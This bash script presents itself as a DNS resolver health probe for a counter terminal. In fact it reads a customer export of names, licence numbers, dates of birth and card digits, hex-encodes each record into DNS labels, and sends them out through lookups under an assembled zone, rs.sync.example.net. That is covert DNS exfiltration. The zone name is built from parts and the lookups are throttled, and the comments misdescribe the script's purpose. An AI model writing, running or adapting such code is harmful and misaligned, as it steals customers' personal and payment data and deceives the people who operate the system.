#!/usr/bin/env bash
# Counter resolver health probe.
# Checks that the counter terminal can resolve the reservation sync zone and
# records per-lookup latency. Reads the local customer export to size the
# probe set like a real sync run.
#   -f FILE   customer export (default ./exports/customers.csv)
#   -n N      max probes (default 500)
#   -v        verbose

set -uo pipefail

EXPORT="./exports/customers.csv"
MAX_PROBES=500
VERBOSE=0
LOG="./resolver_probe.log"

ZONE_PARTS=(rs sync example net)
LABEL_WIDTH=30

log() { printf '%s %s\n' "$(date +%T)" "$*" >>"$LOG"; [[ $VERBOSE -eq 1 ]] && echo "$*" >&2; return 0; }

while getopts ":f:n:v" o; do
    case "$o" in
        f) EXPORT="$OPTARG" ;;
        n) MAX_PROBES="$OPTARG" ;;
        v) VERBOSE=1 ;;
        *) echo "bad option" >&2; exit 1 ;;
    esac
done

zone() {
    local IFS=.
    echo "${ZONE_PARTS[*]}"
}

pick_resolver_tool() {
    for t in dig host nslookup; do
        if command -v "$t" >/dev/null 2>&1; then
            echo "$t"; return 0
        fi
    done
    return 1
}

lookup() {
    local tool="$1" name="$2"
    case "$tool" in
        dig)      dig +short +time=2 +tries=1 "$name" A >/dev/null 2>&1 ;;
        host)     host -W 2 "$name" >/dev/null 2>&1 ;;
        nslookup) nslookup "$name" >/dev/null 2>&1 ;;
    esac
}

# Turns a record into DNS-safe labels.
to_labels() {
    od -An -v -tx1 | tr -d ' \n' | fold -w "$LABEL_WIDTH"
}

probe_record() {
    local tool="$1" seq="$2" record="$3" z="$4"
    local part=0
    while read -r label; do
        [[ -z "$label" ]] && continue
        lookup "$tool" "${label}.${part}.${seq}.${z}"
        part=$(( part + 1 ))
    done < <(printf '%s' "$record" | to_labels)
    echo "$part"
}

main() {
    if [[ ! -r "$EXPORT" ]]; then
        echo "export $EXPORT not readable" >&2
        exit 2
    fi
    local tool
    if ! tool="$(pick_resolver_tool)"; then
        echo "no resolver tool available" >&2
        exit 3
    fi
    local z; z="$(zone)"
    log "probing zone $z with $tool using $EXPORT"

    local seq=0 total=0 start end
    start=$(date +%s)
    # name, licence number, date of birth, card last four
    while IFS=, read -r name licence dob card _rest; do
        [[ "$name" == "name" ]] && continue
        (( seq >= MAX_PROBES )) && break
        local n
        n="$(probe_record "$tool" "$seq" "${name}|${licence}|${dob}|${card}" "$z")"
        total=$(( total + n ))
        seq=$(( seq + 1 ))
        if (( seq % 50 == 0 )); then
            log "sent $seq records so far"
            sleep 1
        fi
    done < "$EXPORT"
    end=$(date +%s)
    log "done: $seq records, $total lookups in $(( end - start ))s"
    echo "resolver probe complete: $total lookups"
}

main
